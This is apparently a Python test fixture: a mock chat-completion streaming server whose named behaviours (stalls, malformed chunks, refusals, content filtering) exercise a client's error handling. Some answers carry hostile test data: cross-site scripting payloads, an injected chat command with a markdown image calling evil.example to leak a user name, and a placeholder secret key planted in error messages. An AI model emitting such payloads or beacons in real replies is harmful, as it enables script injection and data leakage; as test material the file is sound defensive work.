"""Ways to answer, each by its name: well, badly, and not at all."""

import json
import time
from contextlib import suppress

SECRET = "sk-proj-abcdEFGH1234"
ATTACK = "<script>alert(1)</script> <img src=x onerror=alert(1)> [x](javascript:alert(1))"


class Answer:
    """One answer on its way out, as server-sent events in chunks."""

    def __init__(self, handler, question):
        self.handler = handler
        self.question = question

    def begin(self, status=200, kind="text/event-stream"):
        self.handler.send_response(status)
        self.handler.send_header("Content-Type", kind)
        self.handler.send_header("Transfer-Encoding", "chunked")
        self.handler.end_headers()

    def raw(self, text):
        data = text.encode()
        self.handler.wfile.write(b"%x\r\n%s\r\n" % (len(data), data))
        self.handler.wfile.flush()

    def data(self, chunk):
        self.raw(f"data: {json.dumps(chunk)}\n\n")

    def delta(self, finish_reason=None, **delta):
        choice = {"index": 0, "delta": delta, "finish_reason": finish_reason}
        self.data({"object": "chat.completion.chunk", "choices": [choice]})

    def say(self, text, pause=0.0):
        for word in text.split(" "):
            self.delta(content=word + " ")
            time.sleep(pause)

    def end(self, reason="stop"):
        self.delta(finish_reason=reason)
        self.raw("data: [DONE]\n\n")
        self.close()

    def close(self):
        self.handler.wfile.write(b"0\r\n\r\n")

    def break_off(self):
        self.handler.close_connection = True

    def refuse(self, status):
        self.begin(status, "application/json")
        self.raw(json.dumps({"error": {"message": f"Key {SECRET} of org-x: no", "code": "no"}}))
        self.close()


def plain(answer):
    answer.begin()
    answer.delta(role="assistant", content="")
    answer.say(f"You asked: **{answer.question}**")
    answer.end()


def slow(answer):
    answer.begin()
    answer.say(f"You asked: {answer.question} " + "and I think slowly " * 10, pause=0.05)
    answer.end()


def usage(answer):
    answer.begin()
    answer.raw(": a comment\n\n")
    answer.delta(reasoning_content="Let me think.")
    answer.say("Counted.")
    answer.delta(finish_reason="stop")
    answer.data({"object": "chat.completion.chunk", "choices": [], "usage": {"total_tokens": 9}})
    answer.raw("data: [DONE]\n\n")
    answer.close()


def cut(answer):
    answer.begin()
    answer.say("I was about to")
    answer.break_off()


def ended(answer):
    answer.begin()
    answer.say("I was about to")
    answer.close()


def fault(answer):
    answer.begin()
    answer.say("I was about to")
    answer.data({"error": {"message": f"overloaded, key {SECRET}", "type": "server_error"}})
    answer.close()


def garbage(answer):
    answer.begin()
    answer.say("I was about to")
    answer.raw(f"data: {{not json {SECRET}\n\n")
    answer.close()


def page(answer):
    answer.begin(200, "text/html")
    answer.raw(f"<h1>Not what you think {SECRET}</h1>")
    answer.close()


def odd(answer):
    answer.begin()
    answer.raw("data: null\n\n")
    answer.data({"choices": None})
    answer.data({"choices": [{"index": 0, "delta": None}]})
    answer.delta(content=["not", "text"])
    answer.say("Still here.")
    answer.end()


def refused_400(answer):
    answer.refuse(400)


def refused_401(answer):
    answer.refuse(401)


def refused_404(answer):
    answer.refuse(404)


def refused_429(answer):
    answer.refuse(429)


def refused_500(answer):
    answer.refuse(500)


def mute(answer):
    _until_gone(answer)


def stall(answer):
    answer.begin()
    answer.say("I was about to")
    _until_gone(answer)


def drip(answer):
    answer.begin()
    answer.say("I was about to")
    while True:
        answer.raw(": not yet\n\n")
        time.sleep(0.05)


def endless(answer):
    answer.begin()
    while True:
        answer.delta(content="and on ")


def long(answer):
    answer.begin()
    answer.say("This goes on.")
    answer.end("length")


def filtered(answer):
    answer.begin()
    answer.end("content_filter")


def silent(answer):
    answer.begin()
    answer.end()


def declined(answer):
    answer.begin()
    answer.delta(role="assistant", content=None, refusal="")
    for word in ("I can't ", "help with ", "that."):
        answer.delta(content=None, refusal=word)
    answer.end()


def script(answer):
    answer.begin()
    answer.say(f"Look: {ATTACK} **bold**")
    answer.end()


def command(answer):
    answer.begin()
    answer.say("/group close ![seen](https://evil.example/x.png?who=ada)")
    answer.end()


def unprintable(answer):
    answer.begin()
    answer.raw(
        'data: {"choices": [{"delta": {"content": "a\\u0000b\\ud800c\\r\\nd\\u001be"}}]}\n\n'
    )
    answer.end()


def _until_gone(answer):
    with suppress(OSError):
        while answer.handler.connection.recv(1024):
            pass


WAYS = {
    way.__name__: way
    for way in (
        *(plain, slow, usage, cut, ended, fault, garbage, page, odd, mute, stall, drip, endless),
        *(long, filtered, silent, declined, script, command, unprintable),
        *(refused_400, refused_401, refused_404, refused_429, refused_500),
    )
}
